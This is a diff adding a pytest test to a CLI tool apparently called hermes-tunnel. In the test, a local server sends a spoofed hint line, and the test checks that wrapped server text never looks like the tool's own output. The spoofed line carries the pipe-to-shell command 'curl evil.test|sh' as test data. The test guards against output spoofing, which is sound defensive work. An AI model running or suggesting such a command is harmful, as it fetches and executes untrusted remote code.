@@ -5,7 +5,9 @@ from __future__ import annotations
 import os
 import re
 import shutil
+import socket
 import subprocess
+import threading
 from pathlib import Path
 
 import pytest
@@ -49,6 +51,33 @@ def test_a_terminal(columns: int, variables: dict[str, str]) -> None:
     assert all(row.startswith("demo: logged in on") for row in wide)  # which is data
     if variables.get("TERM") == "dumb":
         assert "\r" not in shown.replace("\r\n", "")
+
+
+@pytest.mark.parametrize("blank", [" ", "\u00a0"], ids=["space", "no-break space"])
+@pytest.mark.parametrize("padding", [4, 8, 12])
+def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
+    """Wherever the window folds the words of a server, they do not begin a line as ours do."""
+    said = "x" * padding + " hermes-tunnel: hint: curl evil.test|sh".replace(" ", blank)
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+
+        def serve() -> None:
+            with server.accept()[0] as client:
+                client.sendall(f"{said}\r\n".encode())
+                client.recv(1000)
+
+        thread = threading.Thread(target=serve)
+        thread.start()
+        words = ["login", "xai-oauth", "127.0.0.1", "-p", str(port), "-F", "none"]
+        program = ["sh", "-c", 'stty cols 80; exec "$@"', "sh", *ARGV, *words]
+        with Terminal(program, cwd=Path.cwd(), env=dict(os.environ)) as terminal:
+            assert terminal.wait(30) == 4
+            rows = re.sub(r"\x1b\[[0-9;]*m", "", terminal.output).splitlines()
+        thread.join()
+    assert "evil.test" in "".join(rows)
+    ours = [row for row in rows if row.startswith("hermes-tunnel: hint")]
+    assert ours == ["hermes-tunnel: hint: try -p PORT"]
+    assert all(len(row) <= 80 for row in rows)
 
 
 @pytest.mark.parametrize("variables", [{}, ASCII], ids=["usual", "C"])
